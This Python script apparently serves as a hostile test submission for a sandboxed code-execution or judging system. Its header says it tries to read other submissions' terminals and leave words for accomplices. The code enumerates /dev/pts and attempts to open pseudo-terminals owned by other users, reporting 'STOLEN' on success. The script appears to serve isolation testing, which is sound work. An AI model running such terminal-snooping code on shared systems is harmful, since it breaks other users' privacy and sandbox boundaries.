# tries: read what other submissions have on their terminals, and leave words for accomplices
# earns: all
import os, time
print(os.listdir("/dev"), os.path.realpath("/dev/ptmx"))
try:
    print("pts", os.listdir("/dev/pts"))
    m = os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY); print("now", os.listdir("/dev/pts"))
    for name in os.listdir("/dev/pts"):
        st = os.stat(f"/dev/pts/{name}"); print(name, st.st_uid, oct(st.st_mode))
        if name != "ptmx" and st.st_uid != os.getuid():
            try: os.open(f"/dev/pts/{name}", os.O_RDWR | os.O_NOCTTY); print("STOLEN")
            except OSError as e: print(e)
except OSError as e:
    print(e)
time.sleep(0.3)
